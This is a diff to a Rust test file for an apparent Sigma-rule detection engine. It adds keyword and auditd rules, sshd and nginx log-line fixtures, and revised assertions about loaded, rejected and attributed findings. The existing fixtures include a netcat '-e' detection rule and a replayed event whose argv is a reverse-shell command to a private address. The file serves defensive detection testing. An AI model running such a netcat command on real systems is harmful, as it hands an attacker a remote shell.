@@ -16,8 +16,12 @@ logsource:\n  product: linux\n  category: process_creation\n\
 detection:\n  selection:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n  \
 condition: selection\n";
 
-const KEYWORD: &str = "title: K\nlogsource:\n  product: linux\n  service: sshd\n\
+const KEYWORD: &str = "title: Suspicious OpenSSH Daemon Error\nid: kw-1\nauthor: Sam Roe\n\
+level: medium\nlogsource:\n  product: linux\n  service: sshd\n\
 detection:\n  keywords:\n    - 'error in libcrypto'\n  condition: keywords\n";
+
+const AUDITD: &str = "title: A\nlogsource:\n  product: linux\n  service: auditd\n\
+detection:\n  selection:\n    type: EXECVE\n  condition: selection\n";
 
 const UNMAPPED: &str = "title: U\nlogsource:\n  product: linux\n  category: process_creation\n\
 detection:\n  selection:\n    CurrentDirectory: /tmp\n  condition: selection\n";
@@ -27,6 +31,7 @@ fn rules_dir(root: &Path) -> std::path::PathBuf {
     std::fs::create_dir_all(d.join("sub")).expect("mkdir");
     std::fs::write(d.join("good.yml"), GOOD).expect("write");
     std::fs::write(d.join("sub/keyword.yml"), KEYWORD).expect("write");
+    std::fs::write(d.join("sub/auditd.yml"), AUDITD).expect("write");
     std::fs::write(d.join("unmapped.yaml"), UNMAPPED).expect("write");
     std::fs::write(d.join("notes.txt"), "not a rule").expect("write");
     std::fs::write(d.join("binary.yml"), [0xff, 0xfe, 0x00]).expect("write");
@@ -52,9 +57,12 @@ fn check_reports_loaded_and_rejected_with_reasons() {
         .expect("runs");
     let t = text(&out);
     assert!(out.status.success(), "{t}");
-    assert!(t.contains("1 rules loaded, 3 rejected"), "{t}");
-    assert!(t.contains("process_creation"), "{t}");
-    assert!(t.contains("unsupported logsource service sshd"), "{t}");
+    assert!(t.contains("2 rules loaded, 3 rejected"), "{t}");
+    assert!(
+        t.contains("process_creation") && t.contains("log_line"),
+        "{t}"
+    );
+    assert!(t.contains("unsupported logsource service auditd"), "{t}");
     assert!(t.contains("unmapped field `CurrentDirectory`"), "{t}");
     assert!(t.contains("binary.yml") && t.contains("not UTF-8"), "{t}");
 
@@ -87,6 +95,10 @@ fn replay_with_sigma_records_an_attributed_finding() {
             r#"{"v":1,"ts":"2026-11-22T04:53:40Z","source":"ebpf","kind":"exec","pid":700,"ppid":1,"uid":0,"gid":0,"comm":"nc","filename":"/usr/bin/nc","argv":["nc","10.0.0.9","4444","-e","/bin/sh"]}"#,
             "\n",
             r#"{"v":1,"ts":"2026-11-22T04:53:41Z","source":"ebpf","kind":"exec","pid":701,"ppid":1,"uid":0,"gid":0,"comm":"nc","filename":"/usr/bin/nc","argv":["nc","-l","8080"]}"#,
+            "\n",
+            r#"{"v":1,"ts":"2026-11-22T04:53:42Z","source":"journald","kind":"log_line","service":"sshd","pid":812,"facility":4,"message":"ssh_dispatch_run_fatal: Connection from 203.0.113.7 port 50122: error in libcrypto [preauth]"}"#,
+            "\n",
+            r#"{"v":1,"ts":"2026-11-22T04:53:43Z","source":"journald","kind":"log_line","service":"nginx","pid":813,"message":"error in libcrypto"}"#,
             "\n"
         ),
     )
@@ -112,7 +124,16 @@ fn replay_with_sigma_records_an_attributed_finding() {
         .iter()
         .filter(|r| r["payload"]["detector"] == "sigma")
         .collect();
-    assert_eq!(sigma.len(), 1, "{findings:?}");
+    assert_eq!(sigma.len(), 2, "{findings:?}");
+    // The keyword rule: the sshd line, not the same words from nginx.
+    let kw = &sigma[1]["payload"];
+    assert_eq!(kw["author"], "Sam Roe");
+    assert!(
+        kw["summary"]
+            .as_str()
+            .is_some_and(|s| s.contains("Suspicious OpenSSH Daemon Error")),
+        "{kw}"
+    );
     let f = &sigma[0]["payload"];
     assert_eq!(f["author"], "Jane Doe");
     assert_eq!(f["technique"], "T1059.004");
